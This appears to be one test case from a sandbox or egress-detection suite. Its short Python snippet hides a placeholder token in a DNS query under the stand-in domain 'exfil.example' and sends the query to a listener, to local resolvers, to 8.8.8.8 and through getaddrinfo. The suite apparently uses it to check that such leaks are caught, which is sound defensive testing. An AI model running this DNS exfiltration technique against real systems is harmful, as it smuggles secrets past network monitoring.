# id: net-dns-exfiltration
# category: network
# description: hide the token in a DNS query: to the resolver, to the listener posing as one, and through getaddrinfo
# source: DNS tunnelling / exfiltration (MITRE ATT&CK T1071.004)
# detect: net (a host listener receives something)
import socket
import struct

label = TOKEN.lower().replace('_', '-')
query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for part in (label, 'exfil', 'example'):
    query += bytes([len(part)]) + part.encode()
query += b'\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for addr in (UDP, ('127.0.0.1', 53), ('127.0.0.53', 53), ('8.8.8.8', 53)):
    try:
        s.sendto(query, addr)
    except OSError:
        pass
try:
    socket.getaddrinfo(label + '.exfil.example', 80)
except OSError:
    pass
